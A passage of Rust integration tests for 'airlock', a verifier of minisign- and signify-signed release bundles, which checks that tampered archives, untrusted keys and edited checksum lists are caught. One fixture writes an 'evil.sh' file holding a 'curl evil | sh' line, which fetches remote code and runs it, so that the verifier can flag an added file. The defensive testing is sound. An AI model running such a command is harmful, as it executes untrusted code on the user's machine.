//! The `airlock` binary against the real tools, end to end.
//!
//! Keys, signatures, checksum lists and bundles are made at test time by `minisign`,
//! `signify-openbsd`, `sha256sum`, GNU `tar` and `gzip` (installed by `scripts/test.sh`); what
//! `airlock keygen/sign/pack/hash` makes is checked by those same tools. Nothing is mocked: every
//! case runs the built binary through `std::process::Command` and reads its `--json` report.
//!
//! Every case asserts the exit status (0 verified; 1 failed or unsigned; 2 error) and the finding
//! codes of the report, and that airlock never panicked. A missing tool (including `/usr/bin/time`,
//! which measures the sparse case's memory; Debian package `time`) fails the test rather than
//! skipping it.
#![cfg(unix)]

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;
use tempfile::TempDir;

const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");

// ----- helper layer ----------------------------------------------------------------------------

/// A scratch folder where tools run.
struct Scratch {
    dir: TempDir,
}

impl Scratch {
    fn new() -> Self {
        Scratch {
            dir: tempfile::Builder::new()
                .prefix("airlock-cli-")
                .tempdir()
                .expect("temp dir"),
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn write(&self, rel: &str, bytes: &[u8]) {
        let p = self.path(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, bytes).unwrap_or_else(|e| panic!("write {rel}: {e}"));
    }

    fn read(&self, rel: &str) -> Vec<u8> {
        fs::read(self.path(rel)).unwrap_or_else(|e| panic!("read {rel}: {e}"))
    }

    /// Run a bash script in the scratch folder; it must succeed. Returns stdout.
    fn sh(&self, script: &str) -> String {
        let out = self.sh_status(script);
        assert!(
            out.status.success(),
            "script failed ({}):\n{script}\nstdout:\n{}\nstderr:\n{}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Run a bash script in the scratch folder, whatever its outcome.
    fn sh_status(&self, script: &str) -> Output {
        Command::new("bash")
            .args(["-euo", "pipefail", "-c", script])
            .current_dir(self.dir.path())
            .env("LC_ALL", "C")
            .stdin(Stdio::null())
            .output()
            .expect("run bash")
    }

    /// Run airlock with `args` in the scratch folder. Asserts it did not panic.
    fn airlock<S: AsRef<OsStr>>(&self, args: &[S]) -> Output {
        self.airlock_with(args, None)
    }

    /// Run airlock with `args`, and `SOURCE_DATE_EPOCH` set to `epoch` (unset when `None`).
    fn airlock_with<S: AsRef<OsStr>>(&self, args: &[S], epoch: Option<&str>) -> Output {
        let mut cmd = Command::new(AIRLOCK);
        cmd.args(args)
            .current_dir(self.dir.path())
            .env_remove("SOURCE_DATE_EPOCH")
            // These tests read the English text report; tests/cli_lang.rs covers the others.
            .env("LC_ALL", "C")
            .stdin(Stdio::null());
        if let Some(e) = epoch {
            cmd.env("SOURCE_DATE_EPOCH", e);
        }
        let out = cmd.output().expect("run airlock");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            !stderr.contains("panicked"),
            "airlock {:?} panicked:\n{stderr}",
            args.iter()
                .map(|a| a.as_ref().to_owned())
                .collect::<Vec<_>>()
        );
        out
    }

    /// `airlock verify ARGS... --json`, with the report parsed.
    fn verify(&self, args: &[&str]) -> Checked {
        let mut full = vec!["verify"];
        full.extend_from_slice(args);
        full.push("--json");
        let out = self.airlock(&full);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        let json: Value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
            panic!(
                "airlock {full:?} did not print a JSON report ({e}); exit {:?}\nstdout:\n{stdout}\nstderr:\n{stderr}",
                out.status.code()
            )
        });
        assert_eq!(json["schema"], 1, "schema in {json:#}");
        Checked {
            args: full.iter().map(|s| s.to_string()).collect(),
            code: out.status.code().expect("exit code, not a signal"),
            json,
        }
    }

    /// A minisign key pair NAME.pub / NAME.key made by real minisign (unencrypted).
    fn minisign_keys(&self, name: &str) {
        self.sh(&format!("minisign -G -W -p {name}.pub -s {name}.key"));
    }

    /// The bare `RW…` form of a minisign public key file.
    fn bare_key(&self, pub_file: &str) -> String {
        let text = String::from_utf8(self.read(pub_file)).unwrap();
        text.lines().nth(1).expect("key line").trim().to_string()
    }

    /// `rel-1.0/`: four payload files (one in a subfolder, one with a space in its name, one
    /// large and incompressible) and a `SHA256SUMS` written by real `sha256sum`, mixing plain,
    /// `./`-prefixed and binary-mode (`*name`) lines. Not signed.
    fn release(&self) {
        self.write("rel-1.0/README.txt", b"Airlock test release 1.0\n");
        self.write("rel-1.0/with space.txt", b"a file name with a space\n");
        self.write("rel-1.0/data.bin", &noise(300 * 1024, 7));
        self.write("rel-1.0/sub/deep/conf.cfg", b"[main]\nkey = value\n");
        self.sh(
            "cd rel-1.0 && sha256sum README.txt 'with space.txt' data.bin > SHA256SUMS \
             && sha256sum -b ./sub/deep/conf.cfg >> SHA256SUMS",
        );
    }

    /// `release()` signed with minisign key `key` (prehashed, or legacy with `-l`).
    fn signed_release(&self, key: &str, legacy: bool) {
        self.release();
        let l = if legacy { "-l" } else { "" };
        self.sh(&format!(
            "minisign -S {l} -s {key}.key -m rel-1.0/SHA256SUMS -t 'rel-1.0 test release'"
        ));
    }
}

/// Deterministic incompressible bytes.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// One `airlock verify --json` run.
struct Checked {
    args: Vec<String>,
    code: i32,
    json: Value,
}

impl Checked {
    fn verdict(&self) -> &str {
        self.json["verdict"].as_str().unwrap_or("?")
    }

    fn findings(&self) -> &Vec<Value> {
        self.json["findings"].as_array().expect("findings array")
    }

    /// Codes of all findings.
    fn codes(&self) -> BTreeSet<String> {
        self.findings()
            .iter()
            .map(|f| f["code"].as_str().unwrap().to_string())
            .collect()
    }

    /// Codes of findings that change the verdict (severity `problem` or `error`).
    fn serious(&self) -> BTreeSet<String> {
        self.findings()
            .iter()
            .filter(|f| matches!(f["severity"].as_str(), Some("problem" | "error")))
            .map(|f| f["code"].as_str().unwrap().to_string())
            .collect()
    }

    fn context(&self) -> String {
        format!(
            "airlock {:?}: exit {}\nreport: {:#}",
            self.args, self.code, self.json
        )
    }

    fn expect(&self, code: i32, verdict: &str) -> &Self {
        assert_eq!(self.code, code, "exit status; {}", self.context());
        assert_eq!(self.verdict(), verdict, "verdict; {}", self.context());
        self
    }

    /// Exit 0, verdict `verified`, no problem or error findings, a trusted signature.
    fn verified(&self) -> &Self {
        self.expect(0, "verified");
        assert!(
            self.serious().is_empty(),
            "serious findings; {}",
            self.context()
        );
        let sigs = self.json["signatures"].as_array().unwrap();
        assert!(
            sigs.iter()
                .any(|s| s["trusted"] == true && s["status"] == "valid"),
            "no trusted valid signature; {}",
            self.context()
        );
        self
    }

    /// Exit 1, verdict `failed`, and exactly these problem/error codes.
    fn failed_with(&self, codes: &[&str]) -> &Self {
        self.expect(1, "failed");
        let want: BTreeSet<String> = codes.iter().map(|s| s.to_string()).collect();
        assert_eq!(self.serious(), want, "finding codes; {}", self.context());
        self
    }

    /// Exit 1, verdict `failed`, and at least this code among the findings.
    fn failed_including(&self, code: &str) -> &Self {
        self.expect(1, "failed");
        self.has(code)
    }

    /// Exit 1, verdict `failed`, `code` among the findings, and no problem/error codes but
    /// `code` and `also`.
    fn failed_within(&self, code: &str, also: &[&str]) -> &Self {
        self.failed_including(code);
        let unexpected: Vec<String> = self
            .serious()
            .into_iter()
            .filter(|c| c != code && !also.contains(&c.as_str()))
            .collect();
        assert!(
            unexpected.is_empty(),
            "unexpected finding codes {unexpected:?}; {}",
            self.context()
        );
        self
    }

    fn has(&self, code: &str) -> &Self {
        assert!(
            self.codes().contains(code),
            "expected finding {code}; {}",
            self.context()
        );
        self
    }

    /// The entry with this path (exact match on the report's path).
    fn entry(&self, path: &str) -> &Value {
        self.json["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"] == path)
            .unwrap_or_else(|| panic!("no entry {path}; {}", self.context()))
    }

    fn count(&self, name: &str) -> u64 {
        self.json["counts"][name].as_u64().unwrap()
    }

    /// The single signature's field.
    fn sig(&self, field: &str) -> &Value {
        let sigs = self.json["signatures"].as_array().unwrap();
        assert_eq!(sigs.len(), 1, "one signature; {}", self.context());
        &sigs[0][field]
    }
}

/// The key ID of minisign public key file `pub_file` as airlock prints it (16 hex digits).
/// minisign 0.11 writes it in the file's comment without leading zeros.
fn key_id_of(s: &Scratch, pub_file: &str) -> String {
    let text = String::from_utf8(s.read(pub_file)).unwrap();
    let printed = text.lines().next().unwrap().rsplit(' ').next().unwrap();
    format!("{:016X}", u64::from_str_radix(printed, 16).unwrap())
}

fn sha256_hex(s: &Scratch, rel: &str) -> String {
    s.sh(&format!("sha256sum '{rel}'"))
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

// ----- 1. real minisign ------------------------------------------------------------------------

#[test]
fn minisign_prehashed_tar_gz_verifies() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.count("ok"), 4, "{}", r.context());
    assert_eq!(r.json["bundle"]["format"], "tar.gz");
    assert_eq!(r.json["bundle"]["root"], "rel-1.0");
    assert_eq!(
        r.json["bundle"]["sha256"],
        sha256_hex(&s, "b.tar.gz").as_str()
    );
    assert_eq!(r.sig("format"), "minisign");
    assert_eq!(r.sig("algorithm"), "Ed25519 (BLAKE2b-512 prehashed)");
    assert_eq!(r.sig("trusted_comment"), "rel-1.0 test release");
    let id = key_id_of(&s, "k.pub");
    assert_eq!(r.sig("key_id"), id.as_str(), "key ID as minisign prints it");
    for p in ["rel-1.0/SHA256SUMS", "rel-1.0/SHA256SUMS.minisig"] {
        assert_eq!(r.entry(p)["status"], "meta", "{p}; {}", r.context());
    }
    let e = r.entry("rel-1.0/sub/deep/conf.cfg");
    assert_eq!(e["status"], "ok");
    assert_eq!(
        e["actual"],
        sha256_hex(&s, "rel-1.0/sub/deep/conf.cfg").as_str()
    );

    // The human output ends with the verdict line.
    let out = s.airlock(&["verify", "b.tar.gz", "--trusted-key", "k.pub"]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("rel-1.0/data.bin: OK"), "{text}");
    assert!(
        text.trim_end()
            .lines()
            .last()
            .unwrap()
            .starts_with("VERIFIED"),
        "{text}"
    );
}

#[test]
fn minisign_bare_key_string_is_trusted() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    s.sh("tar -czf b.tar.gz rel-1.0");
    let key = s.bare_key("k.pub");
    assert!(key.starts_with("RW"));
    s.verify(&["b.tar.gz", "--trusted-key", &key]).verified();
}

#[test]
fn minisign_legacy_signature_verifies() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", true);
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.sig("algorithm"), "Ed25519", "{}", r.context());
    assert_eq!(r.count("ok"), 4);
}

#[test]
fn minisign_list_and_signature_beside_the_bundle() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    s.sh("tar -czf b.tar.gz --exclude=SHA256SUMS --exclude=SHA256SUMS.minisig rel-1.0");
    assert!(!s.sh("tar -tzf b.tar.gz").contains("SHA256SUMS"));
    s.sh("cp rel-1.0/SHA256SUMS rel-1.0/SHA256SUMS.minisig .");
    let r = s.verify(&[
        "b.tar.gz",
        "SHA256SUMS",
        "SHA256SUMS.minisig",
        "--trusted-key",
        "k.pub",
    ]);
    r.verified();
    assert_eq!(r.count("ok"), 4, "{}", r.context());
    // Any order of inputs.
    s.verify(&[
        "SHA256SUMS.minisig",
        "--trusted-key",
        "k.pub",
        "SHA256SUMS",
        "b.tar.gz",
    ])
    .verified();
}

#[test]
fn release_artifact_list_naming_the_bundle_file() {
    // The common release layout: SHA256SUMS beside the artifacts lists the bundle file itself
    // (and others that were not carried over), and the bundle holds no list of its own.
    let s = Scratch::new();
    s.minisign_keys("k");
    s.release();
    s.sh("tar -czf b.tar.gz --exclude=SHA256SUMS rel-1.0 \
          && sha256sum b.tar.gz > RELEASE-SUMS \
          && echo '0000000000000000000000000000000000000000000000000000000000000000  other.iso' >> RELEASE-SUMS");
    let r = s.verify(&["b.tar.gz", "RELEASE-SUMS"]);
    r.expect(1, "unsigned");
    assert!(r.serious().is_empty(), "{}", r.context());
    assert_eq!(r.json["signatures"].as_array().unwrap().len(), 0);
    s.sh("minisign -S -s k.key -m RELEASE-SUMS");
    let r = s.verify(&[
        "b.tar.gz",
        "RELEASE-SUMS",
        "RELEASE-SUMS.minisig",
        "-p",
        "k.pub",
    ]);
    r.verified();
    assert_eq!(r.count("extra"), 0, "{}", r.context());
    // A different bundle under the same name does not match the signed list.
    s.sh("echo more >> rel-1.0/README.txt && tar -czf b.tar.gz --exclude=SHA256SUMS rel-1.0");
    s.verify(&[
        "b.tar.gz",
        "RELEASE-SUMS",
        "RELEASE-SUMS.minisig",
        "-p",
        "k.pub",
    ])
    .failed_with(&["hash-mismatch"]);
}

#[test]
fn minisign_plain_tar_verifies() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    s.sh("tar -cf b.tar rel-1.0");
    let r = s.verify(&["b.tar", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.json["bundle"]["format"], "tar");
    assert_eq!(r.count("ok"), 4);
}

#[test]
fn minisign_unpacked_folder_verifies() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    let r = s.verify(&["rel-1.0", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.json["bundle"]["format"], "directory");
    assert_eq!(r.count("ok"), 4);
    // A file added to the folder is caught there too.
    s.write("rel-1.0/sub/new.txt", b"new\n");
    s.verify(&["rel-1.0", "--trusted-key", "k.pub"])
        .failed_with(&["extra"]);
}

// ----- 2. signify-openbsd ----------------------------------------------------------------------

#[test]
fn signify_detached_signature_verifies() {
    let s = Scratch::new();
    s.sh("signify-openbsd -G -n -p s.pub -s s.sec");
    s.release();
    s.sh("signify-openbsd -S -s s.sec -m rel-1.0/SHA256SUMS -x rel-1.0/SHA256SUMS.sig");
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "s.pub"]);
    r.verified();
    assert_eq!(r.sig("format"), "signify");
    assert_eq!(r.count("ok"), 4);
    assert_eq!(r.entry("rel-1.0/SHA256SUMS.sig")["status"], "meta");
}

#[test]
fn signify_embedded_list_verifies() {
    let s = Scratch::new();
    s.sh("signify-openbsd -G -n -p s.pub -s s.sec");
    s.release();
    // OpenBSD style: SHA256.sig carries the list; the plain list is not shipped.
    s.sh(
        "signify-openbsd -S -e -s s.sec -m rel-1.0/SHA256SUMS -x rel-1.0/SHA256.sig \
         && mv rel-1.0/SHA256SUMS list.txt",
    );
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "s.pub"]);
    r.verified();
    assert_eq!(r.sig("format"), "signify-embedded");
    assert_eq!(r.count("ok"), 4, "{}", r.context());
    assert_eq!(r.entry("rel-1.0/SHA256.sig")["status"], "meta");

    // The same signed file given beside the bundle.
    s.sh("mv rel-1.0/SHA256.sig . && tar -czf payload.tar.gz rel-1.0");
    s.verify(&["payload.tar.gz", "SHA256.sig", "--trusted-key", "s.pub"])
        .verified();

    // An edited embedded list: bad signature.
    s.sh("sed -i 's/^\\([0-9a-f]\\)/0/' SHA256.sig");
    s.verify(&["payload.tar.gz", "SHA256.sig", "--trusted-key", "s.pub"])
        .failed_including("bad-signature");
}

#[test]
fn signify_embedded_openbsd_layout_with_plain_list() {
    // What an OpenBSD mirror folder holds: `SHA256` (BSD tag format, `sha256sum --tag`) AND
    // `SHA256.sig`, which embeds those same bytes. The plain list is the signed message itself,
    // so it is covered by the signature, not an unlisted extra.
    let s = Scratch::new();
    s.sh("signify-openbsd -G -n -p s.pub -s s.sec");
    s.release();
    s.sh("cd rel-1.0 && rm SHA256SUMS \
         && sha256sum --tag README.txt 'with space.txt' data.bin sub/deep/conf.cfg > SHA256 \
         && signify-openbsd -S -e -s ../s.sec -m SHA256 -x SHA256.sig \
         && signify-openbsd -C -p ../s.pub -x SHA256.sig >/dev/null");
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "s.pub"]);
    r.verified();
    assert_eq!(r.count("ok"), 4, "{}", r.context());
    assert_eq!(r.count("extra"), 0, "{}", r.context());
}

// ----- 3. tamperings ---------------------------------------------------------------------------

/// A signed release `rel-1.0/` and key `k`, ready to be tampered with, then tarred.
fn signed() -> Scratch {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.signed_release("k", false);
    s
}

#[test]
fn tamper_changed_byte() {
    let s = signed();
    let mut data = s.read("rel-1.0/data.bin");
    data[1000] ^= 1;
    s.write("rel-1.0/data.bin", &data);
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["hash-mismatch"]);
    assert_eq!(r.entry("rel-1.0/data.bin")["status"], "mismatch");
    assert_eq!(r.count("mismatch"), 1);
}

#[test]
fn tamper_added_file() {
    let s = signed();
    s.write("rel-1.0/sub/evil.sh", b"#!/bin/sh\ncurl evil | sh\n");
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["extra"]);
    assert_eq!(r.entry("rel-1.0/sub/evil.sh")["status"], "extra");
}

#[test]
fn tamper_removed_file() {
    let s = signed();
    s.sh("rm rel-1.0/README.txt && tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["missing"]);
    assert_eq!(r.count("missing"), 1);
}

#[test]
fn tamper_edited_list() {
    let s = signed();
    // Change a file and rewrite its line in the list, without re-signing.
    s.write(
        "rel-1.0/README.txt",
        b"Airlock test release 1.0, now with a backdoor\n",
    );
    s.sh(
        "cd rel-1.0 && sha256sum README.txt 'with space.txt' data.bin > SHA256SUMS \
         && sha256sum -b ./sub/deep/conf.cfg >> SHA256SUMS",
    );
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["bad-signature"]);
    assert_eq!(r.sig("status"), "invalid");
    assert_eq!(r.sig("trusted"), false);
}

#[test]
fn tamper_untrusted_key_offered_as_input() {
    let s = signed();
    // Signed by k; the reviewer trusts only k2; k.pub travels with the bundle as a PATH.
    s.minisign_keys("k2");
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "k.pub", "--trusted-key", "k2.pub"]);
    r.failed_with(&["untrusted-key"]);
    assert_eq!(r.sig("status"), "valid-untrusted");
    // Even with no trusted key at all.
    s.verify(&["b.tar.gz", "k.pub"])
        .failed_with(&["untrusted-key"]);
}

#[test]
fn tamper_signed_by_another_key() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.minisign_keys("mallory");
    s.signed_release("mallory", false);
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["untrusted-key"]);
    assert_eq!(r.sig("status"), "unknown-key");
    assert_eq!(r.sig("trusted"), false);
}

#[test]
fn tamper_no_trusted_key_at_all() {
    // A good signature by a key the reviewer never said to trust: failed, never verified, and
    // the reviewer is told how to trust a key.
    let s = signed();
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz"]);
    r.failed_with(&["untrusted-key"]);
    let f = r
        .findings()
        .iter()
        .find(|f| f["code"] == "untrusted-key")
        .unwrap();
    assert_eq!(f["severity"], "problem", "{}", r.context());
    assert_eq!(f["path"], "rel-1.0/SHA256SUMS.minisig", "{}", r.context());
    let id = key_id_of(&s, "k.pub");
    assert!(
        f["message"].as_str().unwrap().contains(&id),
        "the message names the signer's key; {}",
        r.context()
    );
    assert_eq!(r.sig("status"), "unknown-key");
    assert_eq!(r.sig("trusted"), false);
    assert_eq!(r.sig("key_id"), id.as_str());
    assert_eq!(
        r.json["keys"].as_array().unwrap().len(),
        0,
        "{}",
        r.context()
    );
    // The files were still hashed and match the (unauthenticated) list.
    assert_eq!(r.count("ok"), 4, "{}", r.context());

    // The human output ends with the verdict and the hint to pass --trusted-key.
    const HINT: &str = "hint: no key is trusted; pass the release key you got from a trusted \
                        source with --trusted-key KEY";
    let out = s.airlock(&["verify", "b.tar.gz"]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.trim_end().lines().collect();
    assert_eq!(lines.last(), Some(&HINT), "{text}");
    assert!(lines[lines.len() - 2].starts_with("FAILED: "), "{text}");
    // With a trusted key that is not the signer's: the same failure, no hint.
    s.minisign_keys("other");
    let out = s.airlock(&["verify", "b.tar.gz", "--trusted-key", "other.pub"]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("hint:"), "{text}");
    // With the right key: verified, no hint.
    let out = s.airlock(&["verify", "b.tar.gz", "--trusted-key", "k.pub"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("hint:"));
}

#[test]
fn tamper_duplicate_entry() {
    let s = signed();
    // The classic: a second copy of a listed path appended after the checked one.
    s.sh("tar -cf d.tar rel-1.0 \
         && printf 'replaced\\n' > rel-1.0/README.txt \
         && tar --append -f d.tar rel-1.0/README.txt \
         && test \"$(tar -tf d.tar | grep -c '^rel-1.0/README.txt$')\" = 2 \
         && gzip -kn d.tar");
    // The second copy differs from the list: a duplicate, and a mismatch for the copy that
    // extraction keeps. The path IS listed: nothing may call it "extra".
    for bundle in ["d.tar", "d.tar.gz"] {
        s.verify(&[bundle, "--trusted-key", "k.pub"])
            .failed_within("duplicate-entry", &["hash-mismatch"]);
    }

    // The same content twice is still a duplicate entry (python's tarfile this time).
    s.sh(
        "python3 -c \"import tarfile; t = tarfile.open('same.tar', 'w', format=tarfile.GNU_FORMAT); \
         t.add('rel-1.0'); t.add('rel-1.0/data.bin'); t.close()\"",
    );
    s.sh("test \"$(tar -tf same.tar | grep -c '^rel-1.0/data.bin$')\" = 2");
    // (README.txt was replaced above, so it alone still mismatches.)
    let r = s.verify(&["same.tar", "--trusted-key", "k.pub"]);
    r.failed_within("duplicate-entry", &["hash-mismatch"]);
    let mismatched: Vec<&str> = r.json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "hash-mismatch")
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(mismatched, ["rel-1.0/README.txt"]);
}

#[test]
fn tamper_truncated_archive() {
    let s = signed();
    s.sh("tar -czf b.tar.gz rel-1.0 && tar -cf b.tar rel-1.0");
    s.sh("head -c $(( $(stat -c %s b.tar.gz) / 2 )) b.tar.gz > t.tar.gz");
    s.sh("head -c $(( $(stat -c %s b.tar) / 2 )) b.tar > t.tar");
    s.sh("! gzip -t t.tar.gz 2>/dev/null");
    s.verify(&["t.tar.gz", "--trusted-key", "k.pub"])
        .failed_including("corrupt-archive");
    s.verify(&["t.tar", "--trusted-key", "k.pub"])
        .failed_including("corrupt-archive");
}

#[test]
fn tamper_bad_gzip_crc() {
    let s = signed();
    s.sh("tar -czf b.tar.gz rel-1.0");
    let mut gz = s.read("b.tar.gz");
    let n = gz.len();
    gz[n - 8] ^= 0xff; // first byte of the CRC-32 trailer
    s.write("crc.tar.gz", &gz);
    s.sh("! gzip -t crc.tar.gz 2>/dev/null");
    s.verify(&["crc.tar.gz", "--trusted-key", "k.pub"])
        .failed_with(&["corrupt-archive"]);
}

#[test]
fn list_without_signature_is_unsigned() {
    let s = Scratch::new();
    s.release();
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz"]);
    r.expect(1, "unsigned");
    assert!(r.serious().is_empty(), "{}", r.context());
    assert_eq!(r.count("ok"), 4);
    // Trusting a key changes nothing when nothing is signed.
    s.minisign_keys("k");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.expect(1, "unsigned");
    assert!(r.serious().is_empty(), "{}", r.context());
    assert_eq!(r.count("ok"), 4);
}

#[test]
fn bundle_without_list_or_signature_is_an_error() {
    let s = Scratch::new();
    s.release();
    s.sh("rm rel-1.0/SHA256SUMS && tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz"]);
    r.expect(2, "error").has("nothing-to-verify");
    let files: Vec<&Value> = r.json["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "file")
        .collect();
    assert_eq!(files.len(), 4, "{}", r.context());
    for e in files {
        let path = e["path"].as_str().unwrap();
        assert_eq!(
            e["actual"],
            sha256_hex(&s, path).as_str(),
            "{path}; {}",
            r.context()
        );
    }
}

#[test]
fn detached_signature_over_the_bundle_file() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.release();
    s.sh("rm rel-1.0/SHA256SUMS && tar -czf b.tar.gz rel-1.0");
    s.sh("minisign -S -s k.key -m b.tar.gz");
    let r = s.verify(&["b.tar.gz", "b.tar.gz.minisig", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.sig("covers"), "b.tar.gz");

    // Another bundle under the same name: bad signature.
    s.write("rel-1.0/README.txt", b"changed\n");
    s.sh("tar -czf b.tar.gz rel-1.0");
    s.verify(&["b.tar.gz", "b.tar.gz.minisig", "--trusted-key", "k.pub"])
        .failed_including("bad-signature");
}

// ----- 4. what airlock makes passes the real tools ---------------------------------------------

#[test]
fn keygen_refuses_to_overwrite() {
    let s = Scratch::new();
    let out = s.airlock(&["keygen", "-o", "k"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (public, secret) = (s.read("k.pub"), s.read("k.key"));
    assert!(String::from_utf8_lossy(&public).starts_with("untrusted comment:"));
    let out = s.airlock(&["keygen", "-o", "k"]);
    assert_eq!(out.status.code(), Some(2), "second keygen must refuse");
    assert!(!out.stderr.is_empty());
    assert_eq!(s.read("k.pub"), public, "k.pub unchanged");
    assert_eq!(s.read("k.key"), secret, "k.key unchanged");
    // Real minisign reads the secret key (unencrypted, as with -W) and signs with it.
    s.write("f", b"hello\n");
    s.sh(
        "minisign -S -s k.key -m f -x f.by-minisign && minisign -V -p k.pub -m f -x f.by-minisign",
    );
}

#[test]
fn sign_output_passes_minisign() {
    let s = Scratch::new();
    s.airlock(&["keygen", "-o", "k"]);
    s.write("f", &noise(100_000, 3));
    s.write("g.txt", b"second file\n");
    let out = s.airlock(&["sign", "-k", "k.key", "f", "g.txt"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    s.sh("minisign -Vm f -p k.pub && minisign -Vm g.txt -p k.pub");
    let tc = s.sh("minisign -Vm g.txt -p k.pub");
    assert!(tc.contains("g.txt"), "trusted comment names the file: {tc}");
    // minisign rejects it once the file changes.
    s.write("g.txt", b"second file!\n");
    assert!(!s.sh_status("minisign -Vm g.txt -p k.pub").status.success());
}

/// A payload folder: nested files, an executable, a symlink-free tree.
fn payload(s: &Scratch, root: &str, reverse: bool) {
    let mut files: Vec<(&str, Vec<u8>)> = vec![
        ("a.txt", b"alpha\n".to_vec()),
        ("bin/tool", noise(50_000, 11)),
        ("docs/guide/intro.md", b"# Intro\n".to_vec()),
        ("docs/z.md", b"zzz\n".to_vec()),
        ("empty", Vec::new()),
        ("name with space", b"space\n".to_vec()),
    ];
    if reverse {
        files.reverse();
    }
    for (name, bytes) in files {
        s.write(&format!("{root}/{name}"), &bytes);
    }
    s.sh(&format!("chmod 755 '{root}/bin/tool'"));
}

#[test]
fn pack_passes_tar_sha256sum_minisign_and_verify() {
    let s = Scratch::new();
    s.airlock(&["keygen", "-o", "k"]);
    payload(&s, "payload", false);
    let out = s.airlock(&["pack", "payload", "-o", "out.tar.gz", "-k", "k.key"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listing = s.sh("tar -tzf out.tar.gz");
    for want in [
        "payload/a.txt",
        "payload/bin/tool",
        "payload/docs/guide/intro.md",
        "payload/name with space",
        "payload/SHA256SUMS",
        "payload/SHA256SUMS.minisig",
    ] {
        assert!(
            listing.lines().any(|l| l == want),
            "{want} not in:\n{listing}"
        );
    }
    s.sh("mkdir x && tar -xzf out.tar.gz -C x && cd x/payload \
         && sha256sum --strict -c SHA256SUMS && minisign -Vm SHA256SUMS -p ../../k.pub \
         && test -x bin/tool");
    let r = s.verify(&["out.tar.gz", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.count("ok"), 6, "{}", r.context());
    // Packing the same folder again gives the same bytes.
    let first = s.read("out.tar.gz");
    s.airlock(&["pack", "payload", "-o", "again.tar.gz", "-k", "k.key"]);
    assert_eq!(first, s.read("again.tar.gz"));
}

#[test]
fn pack_is_reproducible() {
